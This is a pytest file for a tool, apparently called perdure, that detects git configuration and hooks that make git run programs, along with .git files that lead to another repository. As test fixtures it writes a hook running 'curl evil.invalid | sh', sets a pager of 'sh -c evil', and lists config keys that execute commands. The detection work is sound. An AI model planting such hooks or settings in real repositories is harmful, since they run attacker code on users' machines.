from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from perdure.chat.session import Session
from perdure.git.config import repository as config
from tests.conftest import git
from tests.speaking import Scripted


async def notices(path: Path) -> list[str]:
    session = await Session.open(path, backends=[Scripted()])
    told = [notice.text for notice in session.notices if "git in this folder" in notice.text]
    await session.close()
    return told


async def test_what_makes_git_run_programs_is_said_once_for_each_finding(companion: Path) -> None:
    assert await notices(companion) == []
    git(companion, "config", "core.fsmonitor", "touch /tmp/never")
    hooks = companion / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    hook = hooks / "post-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o700)
    (hooks / "pre-commit.sample").write_text("#!/bin/sh\n")
    (hooks / "pre-commit.sample").chmod(0o700)
    (hooks / "pre-push").write_text("not executable")
    (told,) = await notices(companion)
    assert f"({companion}/.git/config: core.fsmonitor; {hooks}: post-commit)" in told
    assert "perdure adopt" in told
    assert await notices(companion) == []
    git(companion, "config", "alias.x", "!true")
    (told,) = await notices(companion)
    assert "alias.x)" in told
    assert "fsmonitor" not in told


async def test_what_has_changed_is_said_again(companion: Path, own_home: Path) -> None:
    """By content, and remembered where nobody who gives a folder away can write."""
    git(companion, "config", "core.pager", "less")
    hook = companion / ".git" / "hooks" / "pre-push"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\ntrue\n")
    hook.chmod(0o700)
    assert len(await notices(companion)) == 1
    hook.write_text("#!/bin/sh\ncurl evil.invalid | sh\n")
    (told,) = await notices(companion)
    assert "pre-push" in told
    assert "pager" not in told
    git(companion, "config", "core.pager", "sh -c evil")
    assert "core.pager" in (await notices(companion))[0]
    git(companion, "config", "--add", "include.path", "/a")
    git(companion, "config", "--add", "include.path", "/b")
    assert "include.path" in (await notices(companion))[0]
    git(companion, "config", "--unset", "include.path", "/a")
    git(companion, "config", "--add", "include.path", "/c")
    assert "include.path" in (await notices(companion))[0]
    assert await notices(companion) == []
    assert not list((companion / ".git" / "perdure").rglob("*odd*"))
    shutil.rmtree(own_home / "data")
    assert len(await notices(companion)) == 1


async def test_a_folder_that_leads_to_the_repository_of_another(
    companion: Path, tmp_path: Path
) -> None:
    """Git takes it as it stands; a folder that one is given may lead to one's own companion."""
    given = tmp_path / "given"
    shutil.copytree(companion, given, ignore=shutil.ignore_patterns(".git"))
    (given / ".git").write_text("gitdir: ../mira/.git\n")
    assert f"repository of {companion}:" in await leading(given)
    assert await leading(given) == ""
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / ".git").symlink_to(companion / ".git")
    assert f"repository of {companion}:" in await leading(linked)
    git(companion, "worktree", "add", "-q", str(tmp_path / "w"), "-b", "w")
    assert await leading(tmp_path / "w") == ""
    assert await leading(companion) == ""


async def leading(path: Path) -> str:
    """What is told of a `.git` that leads elsewhere."""
    session = await Session.open(path, backends=[Scripted()])
    await session.close()
    return " ".join(each.text for each in session.notices if "leads to" in each.text)


async def test_what_is_not_odd(companion: Path) -> None:
    """What perdure writes, what git writes for a remote, and everyday settings."""
    git(companion, "remote", "add", "origin", "git@example.invalid:mira.git")
    git(companion, "config", "branch.main.merge", "refs/heads/main")
    git(companion, "config", "branch.main.remote", "origin")
    git(companion, "config", "user.name", "Ana")
    git(companion, "config", "pull.rebase", "true")
    assert await notices(companion) == []


@pytest.mark.parametrize(
    "key",
    [
        "core.hooksPath", "core.sshCommand", "core.editor", "core.worktree", "sequence.editor",
        "credential.helper", "credential.https://x.helper", "gpg.program", "gpg.ssh.program",
        "filter.lfs.clean", "diff.x.textconv", "diff.x.command", "diff.external", "merge.x.driver",
        "remote.origin.uploadpack", "remote.origin.receivepack", "url.x.insteadOf", "pager.log",
        "includeIf.gitdir:/.path", "commit.gpgSign", "tag.gpgSign", "gc.recentObjectsHook",
        "submodule.x.update", "interactive.diffFilter", "tar.x.command",
        "uploadpack.packObjectsHook",
    ],
)  # fmt: skip
def test_what_is_odd(key: str) -> None:
    section, _, name = key.rpartition(".")
    first, dot, rest = section.partition(".")
    head = f'[{first} "{rest}"]' if dot else f"[{first}]"
    found = config.odd(f"{config.rendered()}{head}\n\t{name} = x\n")
    assert [(key.lower(), value) for key, value in found] == [(key.lower(), "x")]
